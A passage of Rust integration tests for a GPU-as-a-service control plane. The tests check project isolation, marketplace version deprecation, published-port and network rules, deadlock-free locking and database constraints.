        .await
        .unwrap();
    let rows: Vec<(i16, i32)> = sqlx::query_as(
        "SELECT gpu_util_pct, samples FROM allocation_gpu_utilisation WHERE allocation_id = $1",
    )
    .bind(alloc)
    .fetch_all(cp.pool())
    .await
    .unwrap();
    assert_eq!(rows, [(72, 4)]);
    // The database refuses it too.
    let e = sqlx::query(
        "INSERT INTO allocation_gpu_utilisation (allocation_id, node_id, gpu_util_pct, samples)
         SELECT $1, id, 5, 1 FROM nodes WHERE hostname = 'gpu-util-b'",
    )
    .bind(alloc)
    .execute(cp.pool())
    .await
    .unwrap_err();
    assert!(e.to_string().contains("is not on node"), "{e}");
}

/// A page checks its caller once and reads the allocation twice with the proof (#22): a proof
/// for another project, even the same organization's, reads nothing of it.
#[tokio::test]
async fn a_proof_for_one_project_reads_nothing_of_another_projects_allocation() {
    use control_plane::demo::ACME_INFERENCE;
    use control_plane::tenancy::ProjectViewers;
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-proof").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = cp
        .launch(&bob, &request("h100.1x", "proved"), None)
        .await
        .unwrap()
        .id;
    sqlx::query(
        "INSERT INTO allocation_gpu_utilisation (allocation_id, node_id, gpu_util_pct, samples)
         SELECT id, node_id, 40, 1 FROM allocations WHERE id = $1",
    )
    .bind(id.0)
    .execute(cp.pool())
    .await
    .unwrap();
    let alice = cp.principal(ALICE).await.unwrap().unwrap();
    let research = in_project::<ProjectViewers>(&cp, &alice, ACME_RESEARCH).await;
    let inference = in_project::<ProjectViewers>(&cp, &alice, ACME_INFERENCE).await;

    assert_eq!(
        cp.allocation_in(&research, id).await.unwrap().name,
        "proved"
    );
    let history = cp.gpu_utilisation_history(&research, id).await.unwrap();
    assert_eq!(history.iter().map(|p| p.percent).collect::<Vec<_>>(), [40]);

    assert!(
        matches!(
            cp.allocation_in(&inference, id).await,
            Err(Error::NotFound { .. })
        ),
        "another project's proof found the allocation"
    );
    assert_eq!(
        cp.gpu_utilisation_history(&inference, id).await.unwrap(),
        []
    );
}

fn with_listing(sku: &str, name: &str, listing: &str, version: &str) -> LaunchRequest {
    LaunchRequest {
        listing: listing.into(),
        version: version.into(),
        ..request(sku, name)
    }
}

#[tokio::test]
async fn only_published_versions_that_fit_launch_and_deprecation_spares_running_ones() {
    use control_plane::marketplace::Curation;
    let (_db, cp, ops) = setup().await;
    let (_, agent, _) = hgx(&cp, &ops, "gpu-mk-01").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    // What a launch by Bob was refused with: the field and why, or the policy's sentence.
    let refused = async |req: LaunchRequest| match cp.launch(&bob, &req, None).await {
        Err(Error::Invalid { field, reason }) => format!("{field}: {reason}"),
        Err(Error::PolicyDenied(d)) => d.to_string(),
        other => panic!("expected a refusal, got {other:?}"),
    };

    // vLLM supports H100 slices only, at least one GPU; Ray needs two GPUs.
    assert_eq!(
        refused(with_listing("l40s.1x", "v1", "vllm", "")).await,
        "sku: vLLM inference server 0.6.4 doesn't fit l40s.1x: it supports NVIDIA H100 80GB HBM3, and l40s.1x has NVIDIA L40S"
    );
    assert_eq!(
        refused(with_listing("h100.1x", "r1", "ray-cluster", "")).await,
        "sku: Ray cluster head 2.40 doesn't fit h100.1x: it needs at least 2 GPUs, and h100.1x has 1"
    );
    // A version still in review isn't launchable, nor is an unknown one.
    assert_eq!(
        refused(with_listing("h100.8x.metal", "s1", "slurm-head", "")).await,
        "listing: Slurm head node has no published version to launch"
    );
    assert_eq!(
        refused(with_listing("h100.1x", "p0", "pytorch", "9.9")).await,
        "version: PyTorch has no version \"9.9\""
    );

    // PyTorch 2.5 on a 1-GPU H100 slice: the fee is taken from the version, and the plan
    // carries the version's image and cloud-init.
    let id = cp
        .launch(&bob, &with_listing("h100.1x", "torch", "pytorch", ""), None)
        .await
        .unwrap()
        .id;
    let (version, fee): (String, i64) = sqlx::query_as(
        "SELECT v.version, a.fee_per_hour_minor FROM allocations a
         JOIN listing_versions v ON v.id = a.listing_version_id WHERE a.id = $1",
    )
    .bind(id.0)
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!((version.as_str(), fee), ("2.5", 25));
    cp.dispatch_outbox(10).await.unwrap();
    let spec = answer(&cp, &agent, PROVISION, provisioned).await;
    let TaskSpec::VmProvision(plan) = spec else {
        panic!("not a VM provision: {spec:?}")
    };
    assert_eq!(plan.image.name, "pytorch 2.5");
    assert_eq!(
        plan.image.source,
        "/var/lib/gpuaas/images/pytorch-2.5-cuda-12.6.qcow2"
    );
    assert!(
        plan.image.cloud_init.contains("torch-cache"),
        "{}",
        plan.image.cloud_init
    );
    assert_eq!(state(&cp, id).await.0, "running");

    // The operator deprecates 2.5: it keeps running, but can't be launched again.
    let v25: uuid::Uuid = sqlx::query_scalar(
        "SELECT v.id FROM listing_versions v JOIN listings l ON l.id = v.listing_id
         WHERE l.slug = 'pytorch' AND v.version = '2.5'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    cp.curate_version(&ops, v25.into(), Curation::Deprecate, "", None, None)
        .await
        .unwrap();
    assert_eq!(state(&cp, id).await.0, "running");
    assert_eq!(
        refused(with_listing("h100.1x", "torch2", "pytorch", "2.5")).await,
        "version: PyTorch 2.5 is deprecated; only published versions can be launched (the current one is 2.4)"
    );
    // Without a version, the newest published one (2.4) launches.
    let older = cp
        .launch(
            &bob,
            &with_listing("h100.1x", "torch3", "pytorch", ""),
            None,
        )
        .await
        .unwrap()
        .id;
    // The database refuses a deprecated version even when Rust is bypassed.
    let err = sqlx::query(
        "INSERT INTO allocations (id, tenant_id, project_id, name, sku_id, shape, gpu_count, region, node_id,
                                  listing_version_id, ssh_public_key, price_per_hour_minor, currency,
                                  idempotency_key, request_fingerprint, requested_by, placement, state, requested_at)
         SELECT gen_random_uuid(), tenant_id, project_id, 'sneaky', sku_id, shape, gpu_count, region, node_id,
                $2, 'k', 1, currency, 'sneaky-key', 'f', requested_by, '{}', 'placed', now()
         FROM allocations WHERE id = $1",
    )
    .bind(older.0)
    .bind(v25)
    .execute(cp.pool())
    .await
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("pytorch 2.5 is deprecated; only published versions can be launched"),
        "{err}"
    );

    // The organization restricts listings: the refusal names the policy and its level.
    let alice = cp.principal(ALICE).await.unwrap().unwrap();
    let admins = cp
        .tenant_access::<control_plane::tenancy::TenantAdmins>(&alice, ACME)
        .await
        .unwrap();
    cp.set_policy(
        &Scope::tenant(&admins),
        PolicyKey::AllowedListings,
        Some(
            PolicyValue::parse(PolicyKey::AllowedListings, "ubuntu-24.04-cuda, jupyterlab")
                .unwrap(),
        ),
        None,
    )
    .await
    .unwrap();
    assert_eq!(
        refused(with_listing("h100.1x", "torch4", "pytorch", "")).await,
        "policy allowed_listings (set at organization level) allows jupyterlab, ubuntu-24.04-cuda, not pytorch"
    );
    cp.launch(
        &bob,
        &with_listing("h100.1x", "lab", "jupyterlab", ""),
        None,
    )
    .await
    .unwrap();
}

/// Published ports: checked at launch (form and policy), forwarded from the first slot's
/// block of the node's public ports, shown on the allocation and its list row; the project's
/// east-west setting becomes the plan's group; an operator moves the node's address and port
/// range only while nothing runs there, with an audit record.
#[tokio::test]
async fn published_ports_and_east_west_follow_the_project_and_the_node() {
    use control_plane::tenancy::ProjectAdmins;
    let (db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-n").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let with_ports = |name: &str, ports: &[u16]| LaunchRequest {
        published_ports: ports.to_vec(),
        ..request("h100.1x", name)
    };

    // Bad ports are named, and nothing is reserved.
    for (ports, says) in [
        (&[22][..], "other than 22"),
        (&[0][..], "other than 22"),
        (&[8888, 8888][..], "8888 is listed twice"),
        (&[1, 2, 3, 4, 5, 6, 7, 8][..], "at most 7"),
    ] {
        match cp.launch(&bob, &with_ports("bad", ports), None).await {
            Err(Error::Invalid {
                field: "published_ports",
                reason,
            }) => {
                assert!(reason.contains(says), "{reason}")
            }
            other => panic!("{ports:?}: {other:?}"),
        }
    }
    assert_eq!(availability(&cp, "h100.1x").await, 8);

    // The operators' limit.
    let alice = cp.principal(ALICE).await.unwrap().unwrap();
    let root = cp
        .set_break_glass_password("root@platform.example", "Root", "a long enough password")
        .await
        .unwrap();
    let root = cp.principal(root).await.unwrap().unwrap();
    let global = Scope::global(
        &root
            .platform::<control_plane::auth::PlatformAdmin>()
            .unwrap(),
    );
    cp.set_policy(
        &global,
        PolicyKey::MaxPublishedPorts,
        Some(PolicyValue::parse(PolicyKey::MaxPublishedPorts, "1").unwrap()),
        None,
    )
    .await
    .unwrap();
    match cp
        .launch(&bob, &with_ports("two", &[8888, 6006]), None)
        .await
    {
        Err(Error::PolicyDenied(d)) => {
            assert_eq!(d.why, Denied::PublishedPorts { max: 1, asked: 2 }, "{d}")
        }
        other => panic!("{other:?}"),
    }
    cp.set_policy(&global, PolicyKey::MaxPublishedPorts, None, None)
        .await
        .unwrap();

    // East-west on: the plan names the project as its group.
    let admin = in_project::<ProjectAdmins>(&cp, &alice, ACME_RESEARCH).await;
    cp.set_east_west(&admin, true, Some("req-ew"))
        .await
        .unwrap();
    let id = cp
        .launch(&bob, &with_ports("notebook", &[8888, 6006]), None)
        .await
        .unwrap()
        .id;
    let spec = answer(&cp, &agent, PROVISION, provisioned).await;
    let TaskSpec::VmProvision(plan) = &spec else {
        panic!("{spec:?}")
    };
    // One partition key per tenant, kept across its allocations; a 1-GPU slice has no NVLink
    // partition to activate.
    let acme: i32 =
        sqlx::query_scalar("SELECT pkey FROM tenant_ib_partitions WHERE tenant_id = $1")
            .bind(ACME.0)
            .fetch_one(db.pool())
            .await
            .unwrap();
    assert_eq!(plan.fabric.ib_pkey, Some(acme as u16));
    assert_eq!(plan.fabric.nvlink_partition, None);
    let first = plan.slots[0].slot_index as u16;
    let ssh = 22000 + 8 * first;
    assert_eq!(plan.network.ssh_port, Some(ssh));
    assert_eq!(
        plan.network
            .published
            .iter()
            .map(|p| (p.guest_port, p.public_port))
            .collect::<Vec<_>>(),
        vec![(6006, ssh + 1), (8888, ssh + 2)],
        "sorted, after the SSH port"
    );
    assert_eq!(
        plan.network.east_west_group.as_deref(),
        Some(ACME_RESEARCH.to_string().as_str())
    );
    // The database holds the launch's rule too.
    for bad in ["{22}", "{8888,8888}", "{0}", "{1,2,3,4,5,6,7,8}"] {
        let refused =
            sqlx::query("UPDATE allocations SET published_ports = $2::int[] WHERE id = $1")
                .bind(id.0)
                .bind(bad)
                .execute(db.pool())
                .await;
        assert!(refused.is_err(), "{bad} stored as published");
    }
    let bob_p = cp.principal(BOB).await.unwrap().unwrap();
    let detail = cp.allocation(&bob_p, id).await.unwrap();
    assert_eq!(detail.ssh, Some(format!("ssh -p {ssh} ubuntu@gpu-n")));
    assert_eq!(
        detail
            .published
            .iter()
            .map(|p| (p.guest_port, p.address.clone()))
            .collect::<Vec<_>>(),
        vec![
            (6006, format!("gpu-n:{}", ssh + 1)),
            (8888, format!("gpu-n:{}", ssh + 2))
        ]
    );
    let viewer = cp
        .project_access::<control_plane::tenancy::ProjectViewers>(&bob_p, ACME_RESEARCH)
        .await
        .unwrap();
    let filter = control_plane::allocations::AllocationFilter {
        limit: 50,
        ..Default::default()
    };
    let row = cp
        .allocation_page(&[viewer], &filter)
        .await
        .unwrap()
        .items
        .into_iter()
        .find(|a| a.id == id)
        .unwrap();
    assert_eq!((row.ssh, row.published), (detail.ssh, detail.published));

    // Published later: two changes before the agent claims make one queued update carrying
    // the newer ports; the agent's answer leaves the allocation running with them.
    cp.publish_ports(&bob, id, &[9000], Some("req-pub"))
        .await
        .unwrap();
    cp.publish_ports(&bob, id, &[9000, 8888], None)
        .await
        .unwrap();
    let queued: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM agent_tasks WHERE allocation_id = $1
           AND kind = 'allocation.network_update' AND state = 'queued'",
    )
    .bind(id.0)
    .fetch_one(db.pool())
    .await
    .unwrap();
    assert_eq!(queued, 1, "one waiting update");
    let update = network_update(&cp, &agent).await;
    assert_eq!(
        update
            .network
            .published
            .iter()
            .map(|p| (p.guest_port, p.public_port))
            .collect::<Vec<_>>(),
        vec![(9000, ssh + 1), (8888, ssh + 2)],
        "9000 took the first free public port when it replaced both; 8888 came after it"
    );
    assert_eq!(update.network.ssh_port, Some(ssh), "SSH keeps its port");
    let detail = cp.allocation(&bob_p, id).await.unwrap();
    assert_eq!(detail.state, "running");
    assert_eq!(
        detail
            .published
            .iter()
            .map(|p| p.guest_port)
            .collect::<Vec<_>>(),
        vec![8888, 9000]
    );
    match cp.publish_ports(&bob, id, &[22], None).await {
        Err(Error::Invalid {
            field: "published_ports",
            ..
        }) => {}
        other => panic!("{other:?}"),
    }
    let audited: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_log WHERE action = 'allocation.publish_ports'",
    )
    .fetch_one(db.pool())
    .await
    .unwrap();
    assert_eq!(audited, 2);

    // East-west turned off reaches the running allocation: an update without the group.
    cp.set_east_west(&admin, false, None).await.unwrap();
    cp.dispatch_outbox(10).await.unwrap();
    let update = network_update(&cp, &agent).await;
    assert_eq!(update.network.east_west_group, None);
    assert_eq!(update.network.ssh_port, Some(ssh), "nothing else moves");

    // The node's network: a bad address is named; the port range can't move under a running
    // allocation; the address can, and both are audited.
    match cp
        .set_node_network(&ops, node, "gpu host", 22000, None)
        .await
    {
        Err(Error::Invalid {
            field: "public_host",
            ..
        }) => {}
        other => panic!("{other:?}"),
    }
    match cp.set_node_network(&ops, node, "", 30000, None).await {
        Err(Error::Conflict(why)) => assert!(why.contains("1 allocations hold slots"), "{why}"),
        other => panic!("{other:?}"),
    }
    cp.set_node_network(&ops, node, "GPU-N.Example.com", 22000, Some("req-net"))
        .await
        .unwrap();
    let d = cp
        .node_detail(&crate::support::staff(&cp, &ops).await, node)
        .await
        .unwrap();
    assert_eq!(d.public_host.as_deref(), Some("gpu-n.example.com"));
    assert_eq!(d.public_ports, "22000–22063", "eight slots of eight ports");
    let audited: (serde_json::Value,) = sqlx::query_as(
        "SELECT after FROM audit_log WHERE action = 'node.network' AND request_id = 'req-net'",
    )
    .fetch_one(db.pool())
    .await
    .unwrap();
    assert_eq!(audited.0["public_host"], "gpu-n.example.com");
    let ew: (serde_json::Value,) = sqlx::query_as(
        "SELECT after FROM audit_log WHERE action = 'project.east_west' AND request_id = 'req-ew'",
    )
    .fetch_one(db.pool())
    .await
    .unwrap();
    assert_eq!(ew.0["east_west"], true);
}

/// A transaction holding the allocation's row (`lock`: `FOR UPDATE` or `FOR NO KEY UPDATE`),
/// giving up on any later lock after 10 s rather than hanging the test.
async fn holding_the_allocation(
    cp: &ControlPlane,
    id: AllocationId,
    lock: &str,
) -> sqlx::Transaction<'static, sqlx::Postgres> {
    let mut tx = cp.pool().begin().await.unwrap();
    sqlx::query("SET LOCAL lock_timeout = '10s'")
        .execute(&mut *tx)
        .await
        .unwrap();
    sqlx::query(&format!("SELECT 1 FROM allocations WHERE id = $1 {lock}"))
        .bind(id.0)
        .execute(&mut *tx)
        .await
        .unwrap();
    tx
}

/// Waits (at most 10 s) until some session of this database waits for a lock.
async fn until_a_lock_is_waited_for(cp: &ControlPlane) {
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let waiting: i64 = sqlx::query_scalar(
            "SELECT count(*) FROM pg_stat_activity
              WHERE datname = current_database() AND wait_event_type = 'Lock'",
        )
        .fetch_one(cp.pool())
        .await
        .unwrap();
        if waiting > 0 {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the result never waited"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Only what changes a node's claims holds the node's row: a provision's result (it changes
/// the allocation and the task) does not queue behind another result or a release holding the
/// node, and the wipe's start (it ends the claims) does, with its phase written together with
/// its effect.
#[tokio::test]
async fn a_provisions_result_does_not_wait_for_its_node_and_a_wipes_start_does() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.1x", "busy").await.unwrap();
    let provision = cp
        .claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .unwrap();

    let holding_the_node = || async {
        let mut tx = cp.pool().begin().await.unwrap();
        sqlx::query("SELECT 1 FROM nodes WHERE id = $1 FOR NO KEY UPDATE")
            .bind(node.0)
            .execute(&mut *tx)
            .await
            .unwrap();
        tx
    };
    let holder = holding_the_node().await;
    // Answered while the node is held (were it to wait, it would wait until the timeout).
    let answered = tokio::time::timeout(
        Duration::from_secs(30),
        cp.finish_task(&agent, provision.id, &provisioned(&provision.spec)),
    )
    .await
    .expect("a provision's result waited for its node's row");
    assert!(answered.is_ok(), "{answered:?}");
    holder.rollback().await.unwrap();
    assert_eq!(state(&cp, id).await.0, "running");

    cp.release_allocation(&bob, id, None).await.unwrap();
    let release = cp
        .claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .unwrap();
    let holder = holding_the_node().await;
    let wiping = tokio::spawn({
        let (cp, agent) = (cp.clone(), agent.clone());
        async move {
            let wipe = PhaseReport {
                phase: "wipe_nvme".into(),
                status: PhaseStatus::Started,
                elapsed_ms: 0,
                detail: None,
            };
            cp.report_phase(&agent, release.id, &wipe).await
        }
    });
    until_a_lock_is_waited_for(&cp).await;
    // Nothing of the report is visible while it waits: not the phase, not its effect.
    let phases: i64 =
        sqlx::query_scalar("SELECT count(*) FROM agent_task_phases WHERE task_id = $1")
            .bind(release.id.0)
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(phases, 0);
    assert_eq!(state(&cp, id).await.0, "releasing");
    holder.rollback().await.unwrap();
    let reported = wiping.await.unwrap();
    assert!(reported.is_ok(), "{reported:?}");
    assert_eq!(state(&cp, id).await.0, "cleaning");
    let phases: Vec<String> =
        sqlx::query_scalar("SELECT phase FROM agent_task_phases WHERE task_id = $1")
            .bind(release.id.0)
            .fetch_all(cp.pool())
            .await
            .unwrap();
    assert_eq!(phases, ["wipe_nvme"]);
}

/// The dispatcher holds an allocation's row and then queues a task naming its node (a foreign
/// key, so the node's row is share-locked for the key); an agent's result holds its node's row
/// and then changes the allocation. While `lock_node` took the node `FOR UPDATE`, the task's
/// key check waited for the result and the result for the allocation: a deadlock, which the
/// dispatch benchmark hit at 100 launches/s (a release dispatched while its provision was
/// being answered). The node's lock is `FOR NO KEY UPDATE` now: it still orders every change to
/// a node's claims, and a foreign-key check doesn't wait for it.
#[tokio::test]
async fn an_agents_result_and_a_dispatch_of_the_same_allocation_never_deadlock() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.1x", "race").await.unwrap();
    let control_plane::agent_api::ClaimedTask { id: task, spec, .. } = cp
        .claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .expect("the provision");

    // A dispatch of this allocation, as `dispatch_one` does it: its row first.
    let mut dispatch = holding_the_allocation(&cp, id, "FOR UPDATE").await;
    // The agent's answer takes the node, then waits for the allocation.
    let finishing = tokio::spawn({
        let (cp, agent) = (cp.clone(), agent.clone());
        async move { cp.finish_task(&agent, task, &provisioned(&spec)).await }
    });
    until_a_lock_is_waited_for(&cp).await;
    // Then the dispatch queues a task on that node: its key check must not wait for the
    // result's node lock.
    let queued = sqlx::query(
        "INSERT INTO agent_tasks (id, node_id, kind, spec)
         VALUES (gen_random_uuid(), $1, 'slice.topology_discover', '{\"kind\": \"slice.topology_discover\"}')",
    )
    .bind(node.0)
    .execute(&mut *dispatch)
    .await;
    assert!(queued.is_ok(), "the dispatch's task: {queued:?}");
    dispatch.rollback().await.unwrap();
    let finished = finishing.await.unwrap();
    assert!(finished.is_ok(), "the agent's result: {finished:?}");
    assert_eq!(state(&cp, id).await.0, "running");
}

/// A release holds the allocation's row and then cancels its queued provision; the dispatch
/// benchmark (100 launches/s, 2026-11-28) caught it waiting there for a task row that an
/// agent's result held while the result waited for the allocation: `deadlock detected`. (The
/// provision had been claimed after the release's statement began, so the release followed
/// the claimed row and waited for whoever locked it next.) An agent's result now takes the
/// allocation before the task. Here the release's transaction holds the allocation, the result
/// starts, and then the release touches the task row: before, that was the deadlock.
#[tokio::test]
async fn an_agents_result_and_a_release_of_the_same_allocation_never_deadlock() {
    let (_db, cp, ops) = setup().await;
    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.1x", "race").await.unwrap();
    let control_plane::agent_api::ClaimedTask { id: task, spec, .. } = cp
        .claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .expect("the provision");

    // The release's order: the allocation's row first.
    let mut release = holding_the_allocation(&cp, id, "FOR NO KEY UPDATE").await;
    let finishing = tokio::spawn({
        let (cp, agent) = (cp.clone(), agent.clone());
        async move { cp.finish_task(&agent, task, &provisioned(&spec)).await }
    });
    until_a_lock_is_waited_for(&cp).await;
    // Then the release locks the task's row, as its cancel does when it follows a claim.
    let touched = sqlx::query("SELECT 1 FROM agent_tasks WHERE id = $1 FOR NO KEY UPDATE")
        .bind(task.0)
        .execute(&mut *release)
        .await;
    assert!(touched.is_ok(), "the release's cancel: {touched:?}");
    release.rollback().await.unwrap();
    let finished = finishing.await.unwrap();
    assert!(finished.is_ok(), "the agent's result: {finished:?}");
    assert_eq!(state(&cp, id).await.0, "running");
}

/// Migration 0037 moved the rules about what a row is made with (names, addresses, keys,
/// kinds) from CHECK constraints into triggers that run only when those columns are written.
/// Each still refuses a bad value, on insert and on update, naming the same constraint, and a
/// write of the other columns still works.
#[tokio::test]
async fn the_rules_checked_on_write_still_refuse_and_name_their_constraint() {
    let (_db, cp, ops) = setup().await;
    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    running(&cp, &bob, &agent, "held").await;

    let updates = [
        (
            "allocations SET currency = 'usd'",
            "allocations_currency_check",
        ),
        (
            "allocations SET fee_per_hour_minor = -1",
            "allocations_fee_per_hour_minor_check",
        ),
        (
            "allocations SET gpu_count = 0",
            "allocations_gpu_count_check",
        ),
        (
            "allocations SET idempotency_key = 'short'",
            "allocations_idempotency_key_check",
        ),
        (
            "allocations SET name = 'Not-A-Name'",
            "allocations_name_check",
        ),
        (
            "allocations SET price_per_hour_minor = 0",
            "allocations_price_per_hour_minor_check",
        ),
        (
            "allocations SET published_ports = '{22}'",
            "allocations_published_ports_ok",
        ),
        ("allocations SET shape = 'vm'", "allocations_shape_check"),
        (
            "allocations SET ssh_public_key = ''",
            "allocations_ssh_public_key_lines",
        ),
        ("allocations SET tags = '[]'", "allocations_tags_check"),
        (
            "allocations SET user_data = 'echo hi'",
            "allocations_user_data",
        ),
        (
            "node_resource_slots SET cpu_set = '0-'",
            "node_resource_slots_cpu_set_check",
        ),
        (
            "node_resource_slots SET gpu_model = ''",
            "node_resource_slots_gpu_model_check",
        ),
        (
            "node_resource_slots SET gpu_pci_address = '0000:1b:00.8'",
            "node_resource_slots_gpu_pci_address_check",
        ),
        (
            "node_resource_slots SET ib_vf_pci_address = 'x'",
            "node_resource_slots_ib_vf_pci_address_check",
        ),
        (
            "node_resource_slots SET memory_mib = 0",
            "node_resource_slots_memory_mib_check",
        ),
        (
            "node_resource_slots SET numa_node = -1",
            "node_resource_slots_numa_node_check",
        ),
        (
            "node_resource_slots SET nvme_namespace = 'sda'",
            "node_resource_slots_nvme_namespace_check",
        ),
        (
            "node_resource_slots SET nvme_pci_address = 'x'",
            "node_resource_slots_nvme_pci_address_check",
        ),
        (
            "node_resource_slots SET nvme_size_bytes = 0",
            "node_resource_slots_nvme_size_bytes_check",
        ),
        (
            "node_resource_slots SET slot_index = -1",
            "node_resource_slots_slot_index_check",
        ),
        (
            "node_resource_slots SET slot_index = 128",
            "slots_index_fits_the_port_range",
        ),
        (
            "node_resource_slots SET capacity_metadata = capacity_metadata - 'destructive_wipe_policy'",
            "slot_capacity_metadata_complete",
        ),
        (
            "nodes SET capacity_shapes = '{}'",
            "nodes_capacity_shapes_check",
        ),
        ("nodes SET family = '-hgx'", "nodes_family_check"),
        ("nodes SET hostname = 'GPU_A'", "nodes_hostname_check"),
        ("nodes SET public_host = 'a..b'", "nodes_public_host_form"),
        (
            "nodes SET public_port_base = 80",
            "nodes_public_port_base_range",
        ),
        ("nodes SET rack = E'r\\n1'", "nodes_rack_check"),
        ("nodes SET region = 'EU'", "nodes_region_check"),
        (
            "agent_tasks SET kind = 'shell' WHERE allocation_id IS NOT NULL",
            "agent_tasks_kind_check",
        ),
        (
            "agent_tasks SET allocation_id = NULL WHERE kind <> 'slice.topology_discover'",
            "agent_tasks_allocation_kinds",
        ),
        (
            "agent_tasks SET traceparent = '00-' || repeat('0', 32) || '-b7ad6b7169203331-01'",
            "agent_tasks_traceparent_check",
        ),
    ];
    for (update, constraint) in updates {
        let err = sqlx::query(&format!("UPDATE {update}"))
            .execute(cp.pool())
            .await
            .expect_err(update);
        let db = err
            .as_database_error()
            .unwrap_or_else(|| panic!("{update}: {err}"));
        assert_eq!(db.code().as_deref(), Some("23514"), "{update}: {err}");
        assert_eq!(db.constraint(), Some(constraint), "{update}: {err}");
        assert!(
            db.message()
                .contains(&format!("violates check constraint \"{constraint}\"")),
            "{update}: {err}"
        );
    }

    // On insert too: a copy of a real row with one bad value.
    for (insert, constraint) in [
        (
            "INSERT INTO agent_tasks (id, node_id, kind, spec, allocation_id, traceparent)
             SELECT gen_random_uuid(), node_id, 'slice.vm_reboot', spec, allocation_id, NULL
             FROM agent_tasks WHERE allocation_id IS NOT NULL LIMIT 1",
            "agent_tasks_kind_check",
        ),
        (
            "INSERT INTO node_resource_slots (id, node_id, slot_index, gpu_pci_address, gpu_model,
                 gpu_uuid, numa_node, nvme_pci_address, nvme_serial, nvme_namespace,
                 nvme_size_bytes, ib_vf_pci_address, cpu_set, memory_mib, capacity_metadata)
             SELECT gen_random_uuid(), node_id, 99, gpu_pci_address, gpu_model, gpu_uuid,
                 numa_node, nvme_pci_address, nvme_serial, 'nvme', nvme_size_bytes,
                 ib_vf_pci_address, cpu_set, memory_mib, capacity_metadata
             FROM node_resource_slots LIMIT 1",
            "node_resource_slots_nvme_namespace_check",
        ),
    ] {
        let err = sqlx::query(insert)
            .execute(cp.pool())
            .await
            .expect_err(insert);
        assert_eq!(
            err.as_database_error().and_then(|d| d.constraint()),
            Some(constraint),
            "{err}"
        );
    }

    // Writes of the other columns are untouched by these rules and still checked by theirs.
    sqlx::query("UPDATE allocations SET failure = 'a note'")
        .execute(cp.pool())
        .await
        .unwrap();
    test_db::fixtures::assert_db_refuses(
        &cp,
        "UPDATE allocations SET failure = repeat('x', 2001)",
        "allocations_failure_check",
    )
    .await;
}

/// How many times this transaction has refreshed a node's free blocks so far.
async fn refreshes(conn: &mut sqlx::PgConnection) -> i64 {
    sqlx::query_scalar(
        "SELECT coalesce(pg_stat_get_xact_function_calls('refresh_node_free_blocks'::regproc), 0)",
    )
    .fetch_one(conn)
    .await
    .unwrap()
}

/// Migration 0038: ending a claim whose slots go to `cleaning` frees nothing, so it does not
/// refresh its node; ending one whose slots stay clean (a release no host saw) frees them, and
/// does. Either way what the database keeps is what a full refresh computes.
#[tokio::test]
async fn ending_claims_refreshes_the_node_only_when_it_frees_slots() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let held = running(&cp, &bob, &agent, "held").await;
    let unseen = launch(&cp, &bob, "h100.2x", "unseen").await.unwrap();

    let mut tx = cp.pool().begin().await.unwrap();
    sqlx::query("SET LOCAL track_functions = 'pl'")
        .execute(&mut *tx)
        .await
        .unwrap();
    // The agent had `held`: its slots go to `cleaning`, and nothing is freed.
    let before = free_blocks(&mut tx, node).await;
    end_claims(&mut tx, held).await;
    assert_eq!(refreshes(&mut tx).await, 0, "a wipe's start frees nothing");
    assert_eq!(free_blocks(&mut tx, node).await, before);
    // No host saw `unseen` (its provision is still queued): its slots stay clean and are free.
    end_claims(&mut tx, unseen).await;
    assert_eq!(refreshes(&mut tx).await, 1, "ending it frees two slots");
    let kept = kept_blocks_as_refreshed(&mut tx, node).await;
    // Eight slots: two waiting for their proof, six free.
    assert_eq!(kept[0], (1, 6, 6, false));
    tx.commit().await.unwrap();
    assert_eq!(availability(&cp, "h100.1x").await, 6);
}

/// A waiting claim looks in the database when it starts and when nudged, never on a timer, so
/// an idle fleet's long polls cost nothing per agent; a task another server queued reaches it
/// through the claiming server's one watcher, well before the claim's wait ends.
#[tokio::test]
async fn a_waiting_claim_looks_only_when_nudged_and_finds_another_servers_task() {
    let (_db, cp, ops) = setup().await;
    let (_node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    // Another server: its own handle (its own nudges and watcher) on the same database.
    let other = ControlPlane::new(cp.pool().sqlx().clone(), Naming::default());
    let checks = other.metrics().claim_checks();
    assert!(
        other
            .claim_task(&agent, Duration::from_millis(1200))
            .await
            .unwrap()
            .is_none()
    );
    assert_eq!(
        other.metrics().claim_checks() - checks,
        1,
        "an idle claim looked once in 1.2 s"
    );

    // Launched through `cp`, claimed through `other`: `cp`'s nudge can't reach it.
    let waiting = {
        let (other, agent) = (other.clone(), agent.clone());
        tokio::spawn(async move { other.claim_task(&agent, Duration::from_secs(60)).await })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
